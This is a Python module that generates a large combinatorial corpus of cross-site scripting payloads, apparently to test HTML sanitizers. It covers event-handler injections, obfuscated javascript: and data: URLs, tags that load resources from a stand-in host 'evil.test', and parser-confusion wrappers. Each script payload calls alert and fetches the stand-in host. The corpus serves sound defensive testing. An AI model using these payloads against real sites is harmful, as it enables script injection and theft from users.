"""Every way we know to make a mail run, load, send or navigate, put together by rule.

Each payload betrays itself: it opens a dialog or asks for something of TARGET.
"""

from collections.abc import Iterator
from itertools import product

TARGET = "http://evil.test"
RUNS = f"alert(1);fetch('{TARGET}/ran')"

ELEMENTS = (
    "img src=x",
    "img src=x srcset=y",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "body",
    "svg",
    "details open",
    "marquee",
    "iframe src=about:blank",
    "object data=x",
    "div style=animation:a contenteditable tabindex=1 autofocus",
    "a href=# autofocus",
    "form",
    "button autofocus",
    "table background=x",
    "p",
)
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onanimationstart",
    "onpointerover",
    "onclick",
    "onbeforetoggle",
    "onpageshow",
)
SEPARATORS = (" ", "/", "\t", "\n", "\f", " x=`` ")
SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "&#106;avascript:{0}",
    "&#x6a;avascript&colon;{0}",
    "&#1;javascript:{0}",
    "javascript&#58;{0}",
    "javascript://x%0a{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>",
    "vbscript:{0}",
    "blob:{0}",
    "filesystem:{0}",
)
LINKED = (
    '<a href="{0}">x</a>',
    '<a href="{0}" target=_top>x</a>',
    '<area href="{0}">',
    '<iframe src="{0}"></iframe>',
    '<embed src="{0}">',
    '<object data="{0}"></object>',
    '<form action="{0}"><button id=b>x</button></form>',
    '<button formaction="{0}">x</button>',
    '<meta http-equiv=refresh content="0;url={0}">',
    '<svg><a xlink:href="{0}"><text y=9>x</text></a></svg>',
    '<math href="{0}">x</math>',
    '<link rel=stylesheet href="{0}">',
)
LOADED = (
    "<img src={0}>",
    "<img srcset='{0} 1x'>",
    "<picture><source srcset={0}><img></picture>",
    "<video poster={0} src={0}></video>",
    "<audio src={0} autoplay></audio>",
    "<video><track src={0} default></video>",
    "<input type=image src={0}>",
    "<link rel=stylesheet href={0}>",
    "<link rel=preload as=image href={0}>",
    "<link rel=prefetch href={0}>",
    "<link rel=dns-prefetch href={0}>",
    "<link rel=preconnect href={0}>",
    "<link rel=icon href={0}>",
    "<link rel=modulepreload href={0}>",
    "<link rel=manifest href={0}>",
    "<script src={0}></script>",
    "<iframe src={0}></iframe>",
    "<frameset><frame src={0}></frameset>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<body background={0}>",
    "<table background={0}><td background={0}>x",
    "<div style='background:url({0})'>x</div>",
    "<div style='background-image:image-set(\"{0}\" 1x)'>x</div>",
    "<div style='list-style:url({0});display:list-item'>x</div>",
    "<div style='border-image:url({0}) 1'>x</div>",
    "<div style='cursor:url({0}),auto'>x</div>",
    "<div style='content:url({0})'>x</div>",
    "<style>@import '{0}';</style>",
    "<style>*{{background:url({0})}}</style>",
    "<style>@font-face{{font-family:a;src:url({0})}}*{{font-family:a}}</style>",
    "<svg><image href={0} /></svg>",
    "<svg><use href={0}#a /></svg>",
    "<svg><feImage href={0} /></svg>",
    "<svg><style>*{{fill:url({0})}}</style></svg>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href={0}/><img src=x>",
    "<a href={0} ping={0}>x</a>",
    "<form action={0} method=post><button>x</button></form>",
    "<form action={0}><input autofocus><input type=submit></form>",
    "<applet code={0}></applet>",
    "<bgsound src={0}>",
    "<img src=cid:x onerror=this.src='{0}'>",
    "<portal src={0}></portal>",
)
ADDRESSES = (f"{TARGET}/x", "//evil.test/x", "/logout/", "\\\\evil.test\\x")
WRAPPERS = (
    "{0}",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<noscript><p title='</noscript>{0}'>",
    "<math><mtext><table><mglyph><style>{0}",
    "<math><mi//xlink:href='data:x'><style>{0}</style>",
    "<svg></p><style><a id='</style>{0}'>",
    "<svg><desc><style>{0}</style></desc></svg>",
    "<svg><foreignObject>{0}</foreignObject></svg>",
    "<svg><title><b>{0}</b></title></svg>",
    "<template>{0}</template>",
    "<textarea></textarea>{0}",
    "<title></title>{0}",
    "<xmp></xmp>{0}",
    "<plaintext>{0}",
    "<!--><!-->{0}-->",
    "<!--{0}",
    "<![CDATA[{0}]]>",
    "<?xml version='1.0'?>{0}",
    "<select><option>{0}</select>",
    "<table><tr><td>{0}</table>",
    "<form><form>{0}",
    "<b><i><p>{0}</b></i>",
    "<blockquote cite='x'>{0}</blockquote>",
    '<a title="\'>{0}">x</a>',
    "<img alt='`>{0}'>",
    "\x00{0}",
    "<iframe srcdoc='{0}'></iframe>",
    "<body><body>{0}",
    "<details><summary>{0}</summary></details>",
    "<style><!--</style>{0}--></style>",
)
INNER = (
    f"<script>{RUNS}</script>",
    f'<img src=x onerror="{RUNS}">',
    f'<svg onload="{RUNS}">',
    f"<svg><script>{RUNS}</script></svg>",
    f'<svg><animate onbegin="{RUNS}" attributeName=x dur=1s></svg>',
    f'<input autofocus onfocus="{RUNS}">',
)


def payloads() -> tuple[str, ...]:
    """Return every payload once, in a fixed order."""
    return tuple(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for element, handler in product(ELEMENTS, HANDLERS):
        yield f'<{element} {handler}="{RUNS}">x'
    for separator in SEPARATORS:
        yield f'<img{separator}src=x{separator}onerror="{RUNS}">'
        yield f'<svg{separator}onload="{RUNS}">'
    for template, scheme in product(LINKED, SCHEMES):
        yield template.format(scheme.format(RUNS.replace('"', "'")))
    for template, address in product(LOADED, ADDRESSES):
        yield template.format(address)
    for wrapper, inner in product(WRAPPERS, INNER):
        yield wrapper.format(inner)
